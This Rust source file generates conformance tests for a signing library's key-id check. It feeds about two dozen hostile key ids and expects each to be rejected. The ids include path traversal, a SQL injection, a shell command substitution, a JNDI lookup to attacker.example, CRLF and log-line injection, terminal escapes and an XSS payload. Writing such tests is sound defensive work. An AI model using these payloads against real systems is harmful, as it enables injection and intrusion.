//! Key ids that are meant for whatever looks keys up: files, databases, logs, other spellings. A kid is
//! compared with those of the ring, byte for byte, and nothing else happens to it (semantics section 2).

use serde_json::json;

use crate::case::CaseFile;
use crate::cbor::bytes;
use crate::draft::Draft;
use crate::fixture::secret;

const IDS: [(&str, &str); 24] = [
    ("empty", ""),
    ("file", "../../../../../../dev/null"),
    ("file-url", "file:///dev/null"),
    ("web-url", "https://attacker.example/keys.json"),
    ("sql", "x' UNION SELECT 'secret' -- "),
    ("shell", "$(id > /tmp/id)"),
    ("template", "${jndi:ldap://attacker.example/a}"),
    ("line-break", "k1\r\nSet-Cookie: a=b"),
    ("log-line", "k1\n2026-01-01T00:00:00Z INFO allow kid=k1"),
    ("terminal", "\u{1b}]0;owned\u{7}\u{1b}[2Jk1"),
    ("right-to-left", "\u{202e}1k"),
    ("nul-behind", "k1\0"),
    ("nul-before", "\0k1"),
    ("space-behind", "k1 "),
    ("upper-case", "K1"),
    ("cyrillic", "\u{43a}1"),
    ("full-width", "\u{ff4b}1"),
    ("combining", "k1\u{301}"),
    ("hex", "6b31"),
    ("base64url", "azE"),
    ("percent", "%6b1"),
    ("two", "k1,k1"),
    ("prototype", "__proto__"),
    ("markup", "<img src=x onerror=alert(1)>"),
];

pub(super) fn add(file: &mut CaseFile) {
    for (name, id) in IDS {
        let injected = |c: Draft| c.header(json!({"kid": id})).unprotected([(4, bytes(id.as_bytes()))]);
        file.both(&format!("kid-{name}"), "2 kid: exact", |c| injected(c).deny("key-unknown"));
        // What an emptied file, and what a database asked so, would hold.
        for (secret_name, secret) in [("empty", &b""[..]), ("injected", b"secret")] {
            file.both(&format!("kid-{name}-hint-{secret_name}-secret"), "2 kid: hint", |c| {
                injected(c).signed_with(secret).policy(json!({"kid": "hint"})).deny("signature-invalid")
            });
        }
    }
    file.both("kid-long", "2 kid: exact", |c| {
        let id = "k1".repeat(1000);
        c.header(json!({"kid": id})).unprotected([(4, bytes(id.as_bytes()))]).deny("key-unknown")
    });
    file.both("kid-right-secret-of-another", "1", |c| {
        // The id of a key that the attacker does not hold.
        c.signed_with(&secret(9)).deny("signature-invalid")
    });
}
